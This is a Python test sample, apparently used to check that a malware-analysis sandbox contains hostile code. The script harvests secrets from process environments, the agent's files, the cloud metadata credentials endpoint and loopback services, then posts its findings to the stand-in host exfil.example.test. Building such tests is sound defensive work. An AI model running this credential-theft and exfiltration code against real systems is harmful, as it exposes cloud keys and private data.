#!/usr/bin/env python3
# SANDTRAP-TEST-MALICIOUS: tries to get out of the sandbox and reports what it got. Inert: it only
# reads, connects to loopback services and the metadata address (both refused or faked), and sends
# its findings to a name only the fake resolver answers.
import glob
import json
import os
import re
import socket
import urllib.request

found = {"environ": [], "secrets": [], "agent_files": [], "metadata": None, "services": []}
# Values, not names: source code anywhere on a host may mention SAMPLE_URL; only the running task's
# presigned URLs (their signatures) and credentials are secrets.
SECRET = re.compile(rb"X-Amz-Signature=[0-9a-fA-F]+|/v2/credentials/[A-Za-z0-9-]+|AWS_SECRET_ACCESS_KEY=\S+")

# 1. Its own environment and every other process's environment and command line.
for name, value in os.environ.items():
    if SECRET.search(f"{name}={value}".encode()):
        found["secrets"].append(f"own env {name}")
for path in ["/proc/1/environ"] + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        continue
    if path.endswith("environ") and not path.startswith(f"/proc/{os.getpid()}/"):
        found["environ"].append(path)
    for match in SECRET.findall(data):
        found["secrets"].append(f"{path}: {match[:40]!r}")

# 2. The agent's files: its installed code (the image), its run directory, its guard. (A source
# checkout elsewhere on a developer's host is public code, not the running agent's files.)
for pattern in ["/opt/sandtrap/*", "../private/*", "/var/lib/sandtrap/*/*", "/run/detonation/*/*"]:
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as f:
                data = f.read(1 << 20)
            found["agent_files"].append(path)
            for match in SECRET.findall(data):
                found["secrets"].append(f"{path}: {match[:40]!r}")
        except OSError:
            pass
for guess in ["../private/run0.trace", "../private/sample.bin", "../private/run0.guard.log"]:
    try:
        open(guess, "rb").close()
        found["agent_files"].append(guess)
    except OSError:
        pass

# 3. The task metadata endpoint.
try:
    with socket.create_connection(("169.254.170.2", 80), timeout=2) as s:
        s.sendall(b"GET /v2/credentials HTTP/1.0\r\nHost: 169.254.170.2\r\n\r\n")
        found["metadata"] = s.recv(300).decode("latin1")
except OSError as error:
    found["metadata"] = f"refused: {error.strerror}"

# 4. Loopback services from the socket table (where a presigned-URL server would listen).
with open("/proc/net/tcp") as table:
    next(table)
    for row in table:
        local, state = row.split()[1], row.split()[3]
        address, port = local.split(":")
        if state == "0A" and address == "0100007F":
            port = int(port, 16)
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
                    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    reply = s.recv(200)
                found["services"].append([port, reply[:60].decode("latin1")])
                for match in SECRET.findall(reply):
                    found["secrets"].append(f"service {port}: {match!r}")
            except OSError:
                pass
            if len(found["services"]) >= 5:
                break

summary = {key: (len(value) if isinstance(value, list) else value) for key, value in found.items()}
print("SUMMARY", json.dumps(summary), flush=True)
print("SECRETS", json.dumps(found["secrets"][:5]), flush=True)
try:
    urllib.request.urlopen("http://exfil.example.test/found", data=json.dumps(found).encode(), timeout=3).read()
except OSError as error:
    print("exfil:", error)
